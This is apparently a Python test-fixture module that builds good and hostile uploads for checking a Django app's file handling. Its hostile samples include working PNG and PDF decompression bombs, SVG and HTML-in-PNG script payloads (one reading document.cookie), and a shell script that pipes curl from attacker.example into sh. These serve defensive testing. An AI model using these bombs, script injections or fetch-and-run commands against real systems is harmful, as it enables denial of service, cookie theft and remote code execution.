"""Real files made by the tests: good images and PDFs, and hostile ones."""

import io
import random
import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image, ImageDraw

GPS_LATITUDE = (43.0, 14.0, 19.5)


def jpeg_bytes(width=1200, height=800, *, gps=False, orientation=None, marker=None, comment=b"taken at a secret place"):
    """A JPEG; ``gps`` adds GPS and camera EXIF, ``orientation`` the EXIF orientation tag.

    ``marker`` paints a red square at that (x, y) fraction of the image, to follow crops.
    """
    image = Image.new("RGB", (width, height), (40, 90, 160))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, width // 4, height // 4), fill=(250, 250, 0))  # top-left stays findable
    if marker:
        x, y = int(marker[0] * width), int(marker[1] * height)
        draw.rectangle((x - width // 20, y - height // 20, x + width // 20, y + height // 20), fill=(255, 0, 0))
    exif = Image.Exif()
    if gps:
        exif[ExifTags.Base.Make] = "Madeni Test Camera"
        exif[ExifTags.Base.Model] = "MT-1"
        gps_ifd = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps_ifd[ExifTags.GPS.GPSLatitudeRef] = "N"
        gps_ifd[ExifTags.GPS.GPSLatitude] = GPS_LATITUDE
        gps_ifd[ExifTags.GPS.GPSLongitudeRef] = "E"
        gps_ifd[ExifTags.GPS.GPSLongitude] = (76.0, 53.0, 10.0)
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90, exif=exif.tobytes(), comment=comment)
    return buffer.getvalue()


def png_bytes(width=300, height=200, mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, (width, height), "teal").save(buffer, "PNG")
    return buffer.getvalue()


def image_bytes(fmt, width=300, height=200):
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "olive").save(buffer, fmt)
    return buffer.getvalue()


def noisy_png_bytes(width=200, height=200):
    buffer = io.BytesIO()
    Image.effect_noise((width, height), 80).convert("RGB").save(buffer, "PNG")
    return buffer.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png_chunks(data):
    """(type, payload) of every chunk of a PNG."""
    position, chunks = 8, []
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kind = data[position + 4 : position + 8]
        chunks.append((kind, data[position + 8 : position + 8 + length]))
        position += 12 + length
    return chunks


def bomb_png(width=20000, height=20000):
    """A real decompression bomb: a bilevel PNG of width × height blank pixels, some 50 kB on disk."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    rows_per_block = 1000
    payload = [compressor.compress(row * rows_per_block) for _ in range(height // rows_per_block)]
    payload.append(compressor.compress(row * (height % rows_per_block)))
    payload.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(payload)) + _chunk(b"IEND", b"")


def corrupt_png():
    """A PNG with valid chunk structure and checksums whose pixel data is garbage."""
    chunks = _png_chunks(noisy_png_bytes())
    rebuilt = b"\x89PNG\r\n\x1a\n"
    rng = random.Random(5)
    for kind, data in chunks:
        if kind == b"IDAT":
            data = bytes(rng.getrandbits(8) for _ in range(len(data)))
        rebuilt += _chunk(kind, data)
    return rebuilt


def truncated_jpeg():
    data = jpeg_bytes(1600, 1200)
    return data[: len(data) // 2]


HTML_PAGE = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r=>r.text())</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)


def png_with_html():
    return png_bytes() + b"<html><script>alert(document.cookie)</script></html>"


def pdf_bytes(pages=("Astana Opera on tour in Paris",)):
    """A real PDF (fpdf2), one page per text."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=14)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 10, text)
    return bytes(pdf.output())


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(root):
    """Every file under the media root, relative to it."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def _raw_pdf(objects):
    """A PDF made of the given object bodies (object 1 is the catalog), with its cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream_bomb_pdf(pages=12, inflated_mb=70, *, first_page=None):
    """Pages sharing one FlateDecode content stream of some text and ``inflated_mb`` MB of zeros.

    About 75 kB on disk; pypdf takes seconds per page and hundreds of megabytes to read it.
    ``first_page`` puts an ordinary page with that text first.
    """
    compressor = zlib.compressobj(9)
    zeros = b"\x00" * (1 << 20)
    data = compressor.compress(b"BT /F1 12 Tf 72 700 Td (Madeni) Tj ET\n")
    data += b"".join(compressor.compress(zeros) for _ in range(inflated_mb)) + compressor.flush()
    plain = f"BT /F1 12 Tf 72 700 Td ({first_page or ''}) Tj ET".encode()
    contents = ["4 0 R" if first_page and n == 0 else "3 0 R" for n in range(pages)]
    font = "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {} /Resources " + font + " >>"
    kids = " ".join(f"{5 + n} 0 R" for n in range(pages)).encode()
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(pages).encode() + b" >>",
            b"<< /Length " + str(len(data)).encode() + b" /Filter /FlateDecode >>\nstream\n" + data + b"\nendstream",
            b"<< /Length " + str(len(plain)).encode() + b" >>\nstream\n" + plain + b"\nendstream",
            *[page.format(content).encode() for content in contents],
        ]
    )


def page_tree_bomb_pdf(fanout=316):
    """A 5 kB PDF whose page tree names one page fanout² times (pypdf's cap is 100,000 entries)."""
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + b"4 0 R " * fanout + b"] /Count " + str(fanout * fanout).encode() + b" >>",
            b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids ["
            + b"3 0 R " * fanout
            + b"] /Count "
            + str(fanout).encode()
            + b" >>",
        ]
    )
